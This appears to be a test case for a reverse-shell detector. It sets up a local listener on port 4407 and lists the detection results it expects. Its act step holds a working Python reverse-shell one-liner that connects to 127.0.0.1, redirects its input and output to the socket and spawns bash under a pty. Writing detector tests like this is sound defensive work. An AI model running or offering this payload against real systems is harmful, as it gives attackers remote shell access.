# R07: python with a pty
# stage: behaviour
# expect: reverse_shell_detected
#   detection.reason: ~outbound
#   reverse_shell.process_list.length: 2
#   reverse_shell.process_list.0.process_id: $python
#   reverse_shell.process_list.0.network_connection_list.0.destination_port: 4407
#   reverse_shell.process_list.1.process_id: $shell

#: prepare
. lib/peers.sh
peer 4407
#: act
. lib/peers.sh
act
python3 -c '
import os, pty, socket
s = socket.create_connection(("127.0.0.1", 4407))
for fd in 0, 1, 2: os.dup2(s.fileno(), fd)
pty.spawn("/bin/bash")' < /dev/null > /dev/null 2>&1 & fact python $!
who shell /bin/bash
await 'at $shell 0 /dev/pts/* && at $python 4 /dev/ptmx && at $python 0 socket:*'
